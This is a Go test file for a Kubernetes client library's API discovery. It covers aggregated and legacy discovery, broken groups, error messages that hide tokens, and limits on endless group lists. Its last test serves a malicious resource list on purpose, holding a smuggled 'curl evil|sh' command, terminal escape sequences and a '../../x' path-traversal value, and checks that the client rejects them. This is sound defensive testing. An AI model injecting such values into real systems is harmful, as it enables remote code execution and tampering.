package discovery_test

import (
	"bytes"
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/listwatch/listwatch/client"
	"github.com/listwatch/listwatch/discovery"
	"github.com/listwatch/listwatch/kube"
)

// server serves testdata. The zero server speaks the legacy form only.
type server struct {
	aggregated string            // version of the aggregated form that it speaks; empty = none
	strict     bool              // answers 406 to what it does not speak, where others answer plain JSON
	answers    map[string]answer // instead of testdata

	mu       sync.Mutex
	requests []string
}

type answer struct {
	code int
	body string
}

func (s *server) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	s.requests = append(s.requests, r.URL.Path)
	s.mu.Unlock()
	accept := r.Header.Get("Accept")
	if s.strict && strings.Contains(accept, "as=") {
		http.Error(w, "only application/json", http.StatusNotAcceptable)
		return
	}
	form, contentType := "legacy", "application/json"
	param := ";g=apidiscovery.k8s.io;v=" + s.aggregated + ";as=APIGroupDiscoveryList"
	if s.aggregated != "" && strings.Count(r.URL.Path, "/") == 1 && strings.Contains(accept, param) {
		form, contentType = "aggregated", contentType+param
	}
	w.Header().Set("Content-Type", contentType)
	if a, ok := s.answers[r.URL.Path]; ok {
		w.WriteHeader(a.code)
		_, _ = w.Write([]byte(a.body))
		return
	}
	b, err := os.ReadFile("testdata/" + form + r.URL.Path + ".json")
	if err != nil {
		http.NotFound(w, r)
		return
	}
	_, _ = w.Write(bytes.ReplaceAll(b, []byte("apidiscovery.k8s.io/v2"), []byte("apidiscovery.k8s.io/"+s.aggregated)))
}

func fetch(t *testing.T, s *server) (*discovery.API, error) {
	t.Helper()
	ts := httptest.NewServer(s)
	t.Cleanup(ts.Close)
	c, err := client.New(client.Config{Server: ts.URL})
	if err != nil {
		t.Fatal(err)
	}
	return discovery.Fetch(t.Context(), c)
}

func mustFetch(t *testing.T, s *server) *discovery.API {
	t.Helper()
	api, err := fetch(t, s)
	if err != nil {
		t.Fatal(err)
	}
	return api
}

func TestFetchAggregatedTakesTwoRequests(t *testing.T) {
	for _, version := range []string{"v2", "v2beta1"} {
		t.Run(version, func(t *testing.T) {
			s := &server{aggregated: version}
			api := mustFetch(t, s)
			slices.Sort(s.requests)
			if diff := cmp.Diff([]string{"/api", "/apis"}, s.requests); diff != "" {
				t.Errorf("requests (-want +got):\n%s", diff)
			}
			found, err := api.Resolve("deploy")
			if err != nil {
				t.Fatal(err)
			}
			want := []discovery.Resource{{
				Resource: kube.Deployments, Singular: "deployment", ShortNames: []string{"deploy"}, Categories: []string{"all"},
				Verbs:     []string{"create", "delete", "deletecollection", "get", "list", "patch", "update", "watch"},
				Preferred: true,
			}}
			if diff := cmp.Diff(want, found); diff != "" {
				t.Errorf("deploy (-want +got):\n%s", diff)
			}
		})
	}
}

func TestFetchLegacyEqualsAggregated(t *testing.T) {
	want := slices.Collect(mustFetch(t, &server{aggregated: "v2"}).All())
	if len(want) != 23 {
		t.Errorf("%d resources, want 23", len(want))
	}
	for name, s := range map[string]*server{"plain JSON": {}, "406": {strict: true}} {
		t.Run(name, func(t *testing.T) {
			api := mustFetch(t, s)
			if diff := cmp.Diff(want, slices.Collect(api.All())); diff != "" {
				t.Errorf("legacy against aggregated (-want +got):\n%s", diff)
			}
			if broken := api.Broken(); len(broken) != 0 {
				t.Errorf("broken: %v", broken)
			}
		})
	}
}

func TestFetchReportsBrokenGroupAndKeepsTheRest(t *testing.T) {
	const path, gv = "/apis/metrics.k8s.io/v1beta1", "metrics.k8s.io/v1beta1"
	for name, a := range map[string]answer{
		"unavailable": {http.StatusServiceUnavailable, "service unavailable"},
		"no JSON":     {http.StatusOK, "<html>"},
		"other kind":  {http.StatusOK, `{"kind":"Status","apiVersion":"v1"}`},
		"empty":       {http.StatusOK, ""},
	} {
		t.Run(name, func(t *testing.T) {
			api := mustFetch(t, &server{answers: map[string]answer{path: a}})
			broken := api.Broken()
			if len(broken) != 1 || broken[gv] == nil {
				t.Fatalf("broken: %v, want %s only", broken, gv)
			}
			if a.code == http.StatusServiceUnavailable && !errors.Is(broken[gv], kube.ErrUnavailable) {
				t.Errorf("broken[%s] = %v, want kube.ErrUnavailable", gv, broken[gv])
			}
			if _, err := api.Resolve("crontabs"); err != nil {
				t.Error(err)
			}
			_, err := api.Resolve("nodemetrics")
			if err == nil || !strings.Contains(err.Error(), gv) {
				t.Errorf("error %v does not name %s, which may have it", err, gv)
			}
		})
	}
}

func TestFetchKeepsWhatIsStale(t *testing.T) {
	b, err := os.ReadFile("testdata/aggregated/apis.json")
	if err != nil {
		t.Fatal(err)
	}
	// metrics.k8s.io is the last.
	i := bytes.LastIndex(b, []byte(`"Current"`))
	stale := string(b[:i]) + `"Stale"` + string(b[i+len(`"Current"`):])
	api := mustFetch(t, &server{aggregated: "v2", answers: map[string]answer{"/apis": {http.StatusOK, stale}}})
	if broken := api.Broken(); len(broken) != 1 || broken["metrics.k8s.io/v1beta1"] == nil {
		t.Errorf("broken: %v, want metrics.k8s.io/v1beta1", broken)
	}
	if _, err := api.Resolve("pods.metrics.k8s.io"); err != nil {
		t.Error(err)
	}
}

func TestFetchFails(t *testing.T) {
	for name, test := range map[string]struct {
		server *server
		want   error
		text   string
	}{
		"forbidden": {
			&server{answers: map[string]answer{"/apis": {http.StatusForbidden, `{"kind":"Status","code":403,"reason":"Forbidden","message":"no"}`}}},
			kube.ErrForbidden, "discover the API",
		},
		"neither": {
			&server{answers: map[string]answer{"/api": {http.StatusNotFound, ""}, "/apis": {http.StatusNotFound, ""}}},
			kube.ErrNotFound, "no Kubernetes API server",
		},
		"login page": {
			&server{answers: map[string]answer{"/api": {http.StatusOK, "<html>secret-of-mine"}}},
			nil, "/api: ",
		},
		"other kind": {
			&server{answers: map[string]answer{"/apis": {http.StatusOK, `{"kind":"List"}`}}},
			nil, `/apis: want kind APIGroupList, got "List"`,
		},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := fetch(t, test.server)
			if err == nil {
				t.Fatal("no error")
			}
			if test.want != nil && !errors.Is(err, test.want) {
				t.Errorf("error %v is not %v", err, test.want)
			}
			if !strings.Contains(err.Error(), test.text) || strings.Contains(err.Error(), "secret") {
				t.Errorf("error %q: want %q, and no payload", err, test.text)
			}
		})
	}
}

// TestFetchHidesCredentials: a server or a proxy can repeat them where a description has
// its own text.
func TestFetchHidesCredentials(t *testing.T) {
	const token = "sesame-street-4711"
	groups := answer{200, `{"kind":"APIGroupList","groups":[{"name":"a.com","versions":[{"version":"v1"}]}]}`}
	for name, answers := range map[string]map[string]answer{
		"of a root":    {"/api": {200, `{"kind":"` + token + `"}`}},
		"of a version": {"/apis": groups, "/apis/a.com/v1": {200, `{"kind":"` + token + `"}`}},
	} {
		t.Run(name, func(t *testing.T) {
			ts := httptest.NewServer(&server{answers: answers})
			defer ts.Close()
			c, err := client.New(client.Config{Server: ts.URL, Token: token, PlainHTTP: true})
			if err != nil {
				t.Fatal(err)
			}
			defer c.CloseIdleConnections()
			api, err := discovery.Fetch(t.Context(), c)
			if api != nil {
				_, err = api.Resolve("things") // which says why it may be unknown
			}
			if err == nil || strings.Contains(err.Error(), token) || !strings.Contains(err.Error(), "want kind") {
				t.Errorf("error %v: want one about the kind, without the token", err)
			}
		})
	}
}

func TestFetchToleratesServerWithoutCore(t *testing.T) {
	api := mustFetch(t, &server{answers: map[string]answer{"/api": {http.StatusNotFound, ""}}})
	if _, err := api.Resolve("crontab"); err != nil {
		t.Error(err)
	}
}

func TestFetchEndsWithItsContext(t *testing.T) {
	ts := httptest.NewServer(&server{})
	defer ts.Close()
	c, err := client.New(client.Config{Server: ts.URL})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := discovery.Fetch(ctx, c); !errors.Is(err, context.Canceled) {
		t.Errorf("error %v, want context.Canceled", err)
	}
}

func TestFetchLegacyPutsPreferredVersionFirst(t *testing.T) {
	groups := `{"kind":"APIGroupList","groups":[{"name":"example.com",
		"versions":[{"version":"v1beta1"},{"version":"v1"}],"preferredVersion":{"version":"v1"}}]}`
	api := mustFetch(t, &server{answers: map[string]answer{"/apis": {http.StatusOK, groups}}})
	found, err := api.Resolve("crontabs")
	if err != nil {
		t.Fatal(err)
	}
	if r := found[0]; r.Version != "v1" || !r.Preferred {
		t.Errorf("crontabs is %v, preferred %t; want v1, preferred", r, r.Preferred)
	}
}

func TestFetchRefusesEndlessGroupList(t *testing.T) {
	groups := `{"kind":"APIGroupList","groups":[{"name":"a","versions":[{"version":"v1"}` +
		strings.Repeat(`,{"version":"v1"}`, 5000) + `]}]}`
	s := &server{answers: map[string]answer{"/apis": {http.StatusOK, groups}}}
	if _, err := fetch(t, s); err == nil || !strings.Contains(err.Error(), "5001") {
		t.Errorf("error %v, want one that tells 5001 group versions", err)
	}
	if len(s.requests) > 3 {
		t.Errorf("%d requests", len(s.requests))
	}
}

// TestFetchLeavesOutWhatHasABadName: it is reported, and what else the server has is
// there.
func TestFetchLeavesOutWhatHasABadName(t *testing.T) {
	const resources = `{"kind":"APIResourceList","resources":[{"name":"foos","kind":"Foo","verbs":["list"]},
		{"name":"x;curl evil|sh","kind":"X"},{"name":"bars","kind":"B\u001b]0;"},{"name":"bazs","kind":"Baz","shortNames":["` + "`x`" + `"]},{"name":"quxs","kind":"Qux","verbs":["list\nwatch"]}]}`
	s := &server{answers: map[string]answer{
		"/api": {200, `{"kind":"APIVersions","versions":["v1"]}`}, "/api/v1": {200, `{"kind":"APIResourceList","resources":[]}`},
		"/apis":          {200, `{"kind":"APIGroupList","groups":[{"name":"a.com","versions":[{"version":"v1"}]},{"name":"b\u001b.com","versions":[{"version":"v1"}]},{"name":"c.com","versions":[{"version":"../../x"}]}]}`},
		"/apis/a.com/v1": {200, resources},
	}}
	api := mustFetch(t, s)
	var got []string
	for r := range api.All() {
		got = append(got, r.String())
	}
	if diff := cmp.Diff([]string{"foos.v1.a.com"}, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	broken := api.Broken()
	if len(broken) != 3 {
		t.Errorf("broken: %v", broken)
	}
	for name, err := range broken {
		if !errors.Is(err, kube.ErrBadName) || strings.ContainsAny(name+err.Error(), "\x1b\n") {
			t.Errorf("%q: %q", name, err)
		}
	}
	slices.Sort(s.requests)
	if diff := cmp.Diff([]string{"/api", "/api/v1", "/apis", "/apis/a.com/v1"}, s.requests); diff != "" {
		t.Errorf("requests (-want +got):\n%s", diff)
	}
}
